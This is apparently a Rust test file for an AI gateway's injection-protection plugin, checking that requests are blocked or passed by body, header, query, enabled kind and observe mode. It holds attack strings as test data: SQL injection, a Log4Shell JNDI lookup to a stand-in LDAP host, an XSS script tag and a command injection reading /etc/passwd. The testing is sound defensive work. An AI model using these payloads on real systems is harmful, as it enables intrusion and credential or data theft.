//! Requests with attack strings.

use aisix_core::{
    body::Body,
    testing::{self, Answer, MODEL, Upstream},
};
use http::Request;
use serde_json::{Value, json};

use crate::ask::*;

fn protection(settings: Value) -> Value {
    json!([{"name": "injection_protection", "settings": settings}])
}

fn with_header(name: &'static str, value: &'static str) -> Request<Body> {
    let mut request = testing::chat_request("hi");
    let headers = request.headers_mut();
    headers.insert(name, http::HeaderValue::from_static(value));
    request
}

fn with_query(query: &str) -> Request<Body> {
    let body = json!({"model": MODEL, "messages": [{"role": "user", "content": "hi"}]});
    testing::request(&format!("/v1/chat/completions?{query}"), body.to_string())
}

#[tokio::test]
async fn an_attack_in_a_body_is_refused_in_every_dialect() {
    let upstream = Upstream::new();
    let settings = json!({"content_to_check": ["body"], "status_code": 403, "error_message": "no"});
    let gateway = gateway(&upstream, protection(settings));
    for streams in [false, true] {
        for request in requests("log in as admin' OR '1'='1", streams) {
            let path = request.uri().path().to_owned();
            let response = send(&gateway, request).await;
            assert_eq!(response.status(), 403, "{path}");
            let answer = testing::json(response).await;
            assert_eq!(answer["error"]["message"], "no", "{path}");
            if path.ends_with("completions") {
                assert_eq!(answer["error"]["code"], "injection_detected");
            }
        }
        assert!(upstream.requests().is_empty());
    }
    let stream = || Answer::stream().role().content("hello").finish().done();
    for request in requests("is `SELECT 1 OR 1=1` on 10.0.0.1 <b>slow</b>? # a", true) {
        upstream.answer(stream());
        assert_eq!(send(&gateway, request).await.status(), 200);
    }
}

#[tokio::test]
async fn it_looks_where_it_is_told_to() {
    let upstream = Upstream::new();
    let attack = "${jndi:ldap://192.0.2.1/a}";
    for (place, refused) in [
        ("body", [true, false, false]),
        ("headers", [false, true, false]),
        ("path_and_query", [false, false, true]),
        ("all", [true, true, true]),
    ] {
        let chain = protection(json!({"content_to_check": [place]}));
        let gateway = gateway(&upstream, chain);
        let query = "x=%24%7bjndi%3aldap%3a%2f%2f192.0.2.1%2fa%7d";
        let requests = [
            testing::chat_request(attack),
            with_header("user-agent", attack),
            with_query(query),
        ];
        for (request, refused) in requests.into_iter().zip(refused) {
            if !refused {
                upstream.answer(Answer::chat("hello"));
            }
            let status = send(&gateway, request).await.status();
            assert_eq!(status, if refused { 400 } else { 200 }, "{place}");
        }
    }
}

#[tokio::test]
async fn credentials_are_not_looked_at() {
    let upstream = Upstream::new();
    let chain = protection(json!({"content_to_check": ["all"]}));
    let gateway = gateway(&upstream, chain);
    let attack = "' OR '1'='1";
    for request in [
        with_header("cookie", attack),
        with_header("x-other-token", attack),
        with_query("key='+OR+'1'='1"),
    ] {
        upstream.answer(Answer::chat("hello"));
        assert_eq!(send(&gateway, request).await.status(), 200);
    }
    for request in [
        with_header("x-other", attack),
        with_query("other='+OR+'1'='1"),
    ] {
        assert_eq!(send(&gateway, request).await.status(), 400);
    }
}

#[tokio::test]
async fn kinds_can_be_chosen_and_patterns_added() {
    let upstream = Upstream::new();
    let settings = json!({
        "predefined_injections": [{"type": "xss"}, {"type": "sql", "enabled": false}],
        "custom_injections": [{"name": "ours", "pattern": "(?i)ÄNDERE alles"}],
        "custom_patterns": [{"name": "agent", "pattern": "^bad/", "content_to_check": "headers"}],
        "content_to_check": ["body"], "action": "block"});
    let gateway = gateway(&upstream, protection(settings));
    for (request, status) in [
        (testing::chat_request("<script>alert(1)</script>"), 400),
        (testing::chat_request("' OR '1'='1"), 200),
        (testing::chat_request("${jndi:ldap://x/a}"), 200),
        (testing::chat_request("ändere ALLES"), 400),
        (testing::chat_request("bad/1"), 200),
        (with_header("user-agent", "bad/1"), 400),
        (with_header("user-agent", "<script>"), 200),
    ] {
        if status == 200 {
            upstream.answer(Answer::chat("hello"));
        }
        assert_eq!(send(&gateway, request).await.status(), status);
    }
}

#[tokio::test]
async fn every_kind_can_be_meant_by_one_word() {
    let upstream = Upstream::new();
    for kinds in [
        json!([{"type": "all"}, {"type": "sql", "enabled": false}]),
        json!([{"type": "sql", "enabled": false}, {"type": "all"}]),
    ] {
        let settings = json!({"predefined_injections": kinds, "content_to_check": ["all"]});
        let gateway = gateway(&upstream, protection(settings));
        upstream.answer(Answer::chat("hello"));
        let sql = send(&gateway, testing::chat_request("' OR '1'='1")).await;
        assert_eq!(sql.status(), 200);
        let other = send(&gateway, testing::chat_request("x; cat /etc/passwd")).await;
        assert_eq!(other.status(), 400);
    }
}

#[tokio::test]
async fn an_observer_refuses_nothing() {
    let upstream = Upstream::new();
    let mut chain = protection(json!({"content_to_check": ["body"]}));
    chain[0]["mode"] = json!("observe");
    upstream.answer(Answer::chat("hello"));
    let gateway = gateway(&upstream, chain);
    let response = send(&gateway, testing::chat_request("' OR '1'='1")).await;
    assert_eq!(response.status(), 200);
}

#[test]
fn settings_are_checked() {
    for (settings, expected) in [
        (json!({}), "settings.content_to_check` is required"),
        (
            json!({"content_to_check": []}),
            "settings.content_to_check`",
        ),
        (
            json!({"content_to_check": ["all"], "status_code": 200}),
            "settings.status_code` must be at least 400",
        ),
        (
            json!({"content_to_check": ["all"], "action": "log"}),
            "settings.action`",
        ),
        (
            json!({"content_to_check": ["all"], "predefined_injections": [{"type": "java_exception"}]}),
            "settings.predefined_injections[0].type`",
        ),
        (
            json!({"content_to_check": ["all"], "custom_patterns": [{"name": "a", "pattern": "("}]}),
            "settings.custom_patterns[0].pattern` is not a regular expression that is understood",
        ),
        (
            json!({"content_to_check": ["all"], "custom_injections": [{"name": "a", "pattern": "x?"}]}),
            "settings.custom_injections[0].pattern` matches a text without a character",
        ),
        (
            json!({"content_to_check": ["all"],
                "custom_injections": [{"name": "a", "pattern": "(\\w{100}){100}"}]}),
            "settings.custom_injections` take too much memory",
        ),
    ] {
        let said = wrong(protection(settings));
        assert!(said.contains(expected), "{said}");
    }
}
